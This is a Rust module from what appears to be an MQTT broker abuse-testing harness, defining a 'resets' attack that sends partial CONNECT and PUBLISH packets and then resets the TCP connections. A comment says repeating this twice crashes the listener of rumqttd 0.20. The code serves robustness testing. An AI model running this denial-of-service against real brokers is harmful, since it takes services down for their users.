//! CONNECT followed by a TCP reset, twice, kills the listener of rumqttd 0.20. Here at every moment of a connection's youth.

use std::sync::Arc;

use crate::abuse::arena::{Arena, Entry};
use crate::abuse::attack::{Attack, Fault, Findings, Needs};
use crate::abuse::packet::{self, QOS1, VERSIONS};

pub(super) const ATTACK: Attack = Attack {
    name: "resets",
    what: "resets connections before, within and right after CONNECT, and within a PUBLISH",
    needs: Needs::Listener,
    run: |arena| Box::pin(run(arena)),
};

async fn run(arena: Arc<Arena>) -> Result<Findings, Fault> {
    let rounds = (arena.effort.connections / 20).max(2);
    let (mut reset, mut entered) = (0, 0);
    for round in 0..rounds {
        let version = VERSIONS[round % 2];
        let bytes = arena.attacker(version).encode();
        for end in [0, 1, 2, bytes.len() / 2, bytes.len() - 1, bytes.len()] {
            let mut peer = arena.silent(version).await?;
            if end > 0 {
                peer.send(&bytes[..end]).await?;
            }
            peer.reset();
            reset += 1;
        }
        let connect = arena.attacker(version);
        if let Entry::Accepted(mut peer) = arena.enter(&connect).await? {
            let publish = packet::publish(version, QOS1, &arena.topic("x"), 1, &[7; 1_000]);
            peer.send(&publish[..500]).await?;
            peer.reset();
            (reset, entered) = (reset + 1, entered + 1);
        }
    }
    let findings = Findings::said(format!("{reset} reset, {entered} of them as clients"));
    // What a reset finds in the server's buffers is a matter of time, so only those are owed a count that never said CONNECT.
    Ok(findings.counted(
        &[
            "connect_abandoned",
            "connect_malformed",
            "tls_malformed",
            "connection_lost",
        ],
        rounds,
    ))
}
